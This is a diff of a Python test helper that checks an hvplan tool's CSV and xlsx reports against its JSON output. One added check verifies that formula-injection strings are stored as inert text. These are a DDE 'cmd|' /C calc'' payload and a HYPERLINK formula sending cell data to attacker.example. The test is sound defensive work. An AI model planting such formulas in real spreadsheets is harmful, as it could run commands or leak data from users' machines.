@@ -2,15 +2,16 @@
 """Reads hvplan's CSV and xlsx reports back with standard readers (Python's csv module, Debian's
 python3-openpyxl) and compares them cell by cell with the JSON reports of the same run.
 
-    compare.py csv-plan PLAN.json INVENTORY.json REPORT.csv
-    compare.py csv-size SIZE.json REPORT.csv
-    compare.py csv-diff DIFF.json REPORT.csv
-    compare.py xlsx-plan PLAN.json INVENTORY.json REPORT.xlsx
-    compare.py xlsx-size SIZE.json REPORT.xlsx
-    compare.py xlsx-diff DIFF.json REPORT.xlsx
+    compare.py RESULT COMMAND ARGUMENTS... [-- RESULT COMMAND ARGUMENTS...]...
 
-INVENTORY.json is `hvplan collect` of the plan's sources (the VMs' hosts, states, disks, ...).
-Prints what differs and exits 1, or prints a count of cells checked and exits 0.  Used by
+    csv-plan PLAN.json INVENTORY.json REPORT.csv      csv-size SIZE.json REPORT.csv
+    csv-diff DIFF.json REPORT.csv                     xlsx-plan PLAN.json INVENTORY.json REPORT.xlsx
+    xlsx-size SIZE.json REPORT.xlsx                   xlsx-diff DIFF.json REPORT.xlsx
+    xlsx-hostile REPORT.xlsx                          xlsx-units REPORT.xlsx
+
+INVENTORY.json is the plan's source inventory (`hvplan collect` of its sources: the VMs' hosts,
+states, disks, ...).  Each comparison writes its file RESULT: what differs, then "ok N cells"
+or "FAIL"; Python starts once for them all (openpyxl takes a second to load).  Used by
 t/t4600-sheets-csv.sh and t/t4601-sheets-xlsx.sh."""
 import csv
 import io
@@ -102,13 +103,24 @@ def csv_plan(plan_path, inventory_path, report):
     rows = read_csv(report)
     header = ["vm", "source_host", "state", "vcpus", "memory_bytes", "storage_bytes",
               "snapshots", "saved_state", "concurrent"]
-    expected = [header]
+    placed = placed_on(plan)
+    expected = [header + (["destination_host"] if placed is not None else [])]
     for vm, (host, item) in zip(plan["vms"], inventory_vms(inventory)):
-        expected.append([csv_text(vm["name"]), csv_text(host["name"]), item["state"],
-                         str(vm["vcpus"]), str(vm["memory_bytes"]), str(vm["storage_bytes"]),
-                         str(vm["snapshots"]), csv_bool(vm["saved_state"]),
-                         csv_bool(vm["concurrent"])])
+        row = [csv_text(vm["name"]), csv_text(host["name"]), item["state"], str(vm["vcpus"]),
+               str(vm["memory_bytes"]), str(vm["storage_bytes"]), str(vm["snapshots"]),
+               csv_bool(vm["saved_state"]), csv_bool(vm["concurrent"])]
+        if placed is not None:
+            row.append(csv_text(placed.get(vm["name"])))
+        expected.append(row)
+    same("csv plan VMs", len(plan["vms"]), len(inventory_vms(inventory)))
     compare_rows("csv plan", rows, expected)
+
+
+def placed_on(plan):
+    """With several destination hosts: VM name -> the host the placement put it on."""
+    if "placement" not in plan:
+        return None
+    return {vm: host["host"] for host in plan["placement"]["hosts"] for vm in host["vms"]}
 
 
 def size_host_cells(model, host):
@@ -183,7 +195,8 @@ def xlsx_decode(value):
 def open_book(path, names):
     import openpyxl
     book = openpyxl.load_workbook(path)
-    same("sheets", book.sheetnames, names)
+    if names is not None:
+        same("sheets", book.sheetnames, names)
     for sheet in book.worksheets:
         same(sheet.title + " frozen pane", sheet.freeze_panes, "A2")
         last = "%s%d" % (openpyxl.utils.get_column_letter(sheet.max_column), sheet.max_row)
@@ -232,8 +245,10 @@ def warnings_rows(warnings):
 
 def xlsx_plan(plan_path, inventory_path, report):
     plan, inventory = load(plan_path), load(inventory_path)
+    placed = placed_on(plan)
     book = open_book(report, ["Summary", "Requirements", "VMs", "Disks", "Adapters", "Switches",
-                              "Snapshots", "Hosts", "Findings", "Warnings"])
+                              "Snapshots", "Hosts", "Findings", "Warnings"]
+                     + (["Placement"] if placed is not None else []))
     compare_sheet(book, "Summary", ["item", "value"],
                   [["verdict", plan["verdict"]], ["source", plan["source"]],
                    ["destination", plan["destination"]],
@@ -262,12 +277,14 @@ def xlsx_plan(plan_path, inventory_path, report):
                     Bytes(memory["startup_bytes"]),
                     Bytes(memory["minimum_bytes"]) if dynamic else None,
                     Bytes(memory["maximum_bytes"]) if dynamic else None,
-                    item["configuration_version"], item["config_path"]])
+                    item["configuration_version"], item["config_path"]]
+                   + ([placed.get(vm["name"])] if placed is not None else []))
     compare_sheet(book, "VMs", ["VM", "source host", "state", "vCPUs", "memory counted",
                                 "storage counted", "checkpoints", "saved state", "concurrent",
                                 "generation", "dynamic memory", "startup memory",
                                 "minimum memory", "maximum memory", "configuration version",
-                                "configuration file"], vms)
+                                "configuration file"]
+                  + (["destination host"] if placed is not None else []), vms)
     disks = []
     for host, item in pairs:
         files = {d["path"]: d for d in host["disks"]}
@@ -308,6 +325,10 @@ def xlsx_plan(plan_path, inventory_path, report):
                   findings_rows(plan["findings"]))
     compare_sheet(book, "Warnings", ["file", "position", "message"],
                   warnings_rows(plan["warnings"]))
+    if placed is not None:
+        model = {"name": "existing hosts", "host_capacity": None}
+        compare_sheet(book, "Placement", PLACEMENT_HEADER,
+                      [placement_row(model, h) for h in plan["placement"]["hosts"]])
 
 
 def skip_times(book, snapshots, pairs):
@@ -328,6 +349,17 @@ def capacity_cells(model, host):
     storage = capacity["storage_bytes"]
     return [Bytes(capacity["memory_bytes"]), capacity["vcpus"],
             None if storage is None else Bytes(storage), capacity["nics"]]
+
+
+PLACEMENT_HEADER = ["model", "host", "VMs", "memory", "vCPUs", "storage", "NICs",
+                    "capacity memory", "capacity vCPUs", "capacity storage", "capacity NICs",
+                    "VM names"]
+
+
+def placement_row(model, host):
+    return ([model["name"], host["host"], len(host["vms"]), Bytes(host["memory_bytes"]),
+             host["vcpus"], Bytes(host["storage_bytes"]), host["nics"]]
+            + capacity_cells(model, host) + ["\n".join(host["vms"]) or None])
 
 
 def xlsx_size(size_path, report):
@@ -355,12 +387,8 @@ def xlsx_size(size_path, report):
                                    "memory per host", "vCPUs per host",
                                    "logical processors per host", "storage per host",
                                    "NICs per host"], models)
-    compare_sheet(book, "Placement", ["model", "host", "VMs", "memory", "vCPUs", "storage", "NICs",
-                                      "capacity memory", "capacity vCPUs", "capacity storage",
-                                      "capacity NICs", "VM names"],
-                  [[m["name"], h["host"], len(h["vms"]), Bytes(h["memory_bytes"]), h["vcpus"],
-                    Bytes(h["storage_bytes"]), h["nics"]] + capacity_cells(m, h)
-                   + ["\n".join(h["vms"])] for m in size["models"] for h in m["placement"]])
+    compare_sheet(book, "Placement", PLACEMENT_HEADER,
+                  [placement_row(m, h) for m in size["models"] for h in m["placement"]])
     findings = findings_rows(size["findings"], model=None)
     for m in size["models"]:
         findings += [[m["name"]] + row[1:] for row in findings_rows(m["findings"], model=None)]
@@ -406,11 +434,58 @@ def load(path):
 COMMANDS = {"csv-plan": csv_plan, "csv-size": csv_size, "csv-diff": csv_diff,
             "xlsx-plan": xlsx_plan, "xlsx-size": xlsx_size, "xlsx-diff": xlsx_diff}
 
+def xlsx_hostile(report):
+    """The hostile inventory's names that start like formulas: exact, and text cells."""
+    book = open_book(report, None)
+    vms = book["VMs"]
+    cells = [vms.cell(row=r, column=1) for r in range(2, 6)]
+    same("VMs!A2:A5", [c.value for c in cells],
+         ["=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3", "+1"])
+    same("VMs!A2:A5 types", [c.data_type for c in cells], ["s"] * 4)
+    for sheet, coordinate, value in (("Switches", "B2", '=HYPERLINK("http://attacker.example/"&A1)'),
+                                     ("Snapshots", "B2", "=1+1"), ("Hosts", "A2", "@host")):
+        same(sheet + "!" + coordinate, book[sheet][coordinate].value, value)
+        same(sheet + "!" + coordinate + " type", book[sheet][coordinate].data_type, "s")
+
+
+def xlsx_units(report):
+    """The bundled example's SQL01: 4 vCPUs, 8 GiB startup, 4 to 16 GiB dynamic memory."""
+    sheet = open_book(report, None)["VMs"]
+    same("VMs row 3", [c.value for c in sheet[3]][:14],
+         ["SQL01", "HV-OLD", "saved", 4, 8, sheet["F3"].value, 0, True, True, 1, True, 8, 4, 16])
+    same("VMs!E3 format", sheet["E3"].number_format, '#,##0.00 "GiB"')
+    same("VMs!D3 type", sheet["D3"].data_type, "n")
+
+
+COMMANDS = {"csv-plan": csv_plan, "csv-size": csv_size, "csv-diff": csv_diff,
+            "xlsx-plan": xlsx_plan, "xlsx-size": xlsx_size, "xlsx-diff": xlsx_diff,
+            "xlsx-hostile": xlsx_hostile, "xlsx-units": xlsx_units}
+
+
+def run(result, command, *arguments):
+    """One comparison; its verdict in the file @result: the differences, then "ok N cells" or
+    "FAIL" (a shell test reads it, so Python starts once for many comparisons)."""
+    global checked, failures
+    checked, failures = 0, []
+    try:
+        COMMANDS[command](*arguments)
+    except Exception as error:  # a workbook that does not open is a difference too
+        failures.append("%s: %s" % (type(error).__name__, error))
+    with open(result, "w") as f:
+        for failure in failures[:40]:
+            f.write(failure + "\n")
+        f.write("FAIL %d of %d\n" % (len(failures), checked) if failures
+                else "ok %d cells\n" % checked)
+
+
 if __name__ == "__main__":
-    COMMANDS[sys.argv[1]](*sys.argv[2:])
-    for failure in failures[:40]:
-        print(failure)
-    if failures:
-        print("%d of %d cells differ" % (len(failures), checked))
-        sys.exit(1)
-    print("%d cells checked" % checked)
+    # compare.py RESULT COMMAND ARGS... [-- RESULT COMMAND ARGS...]...
+    jobs, job = [], []
+    for argument in sys.argv[1:] + ["--"]:
+        if argument == "--":
+            jobs.append(job)
+            job = []
+        else:
+            job.append(argument)
+    for job in jobs:
+        run(*job)
